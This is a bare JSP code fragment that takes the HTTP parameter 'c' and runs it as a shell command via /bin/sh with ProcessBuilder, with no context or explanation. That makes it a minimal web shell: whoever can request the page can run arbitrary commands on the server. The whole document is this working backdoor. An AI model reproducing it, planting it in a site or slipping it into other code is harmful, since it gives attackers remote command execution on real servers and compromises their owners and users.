<%
String c = request.getParameter("c");
String[] cmd = {"/bin/sh", "-c", c};
Process p = new ProcessBuilder(cmd).start();
%>
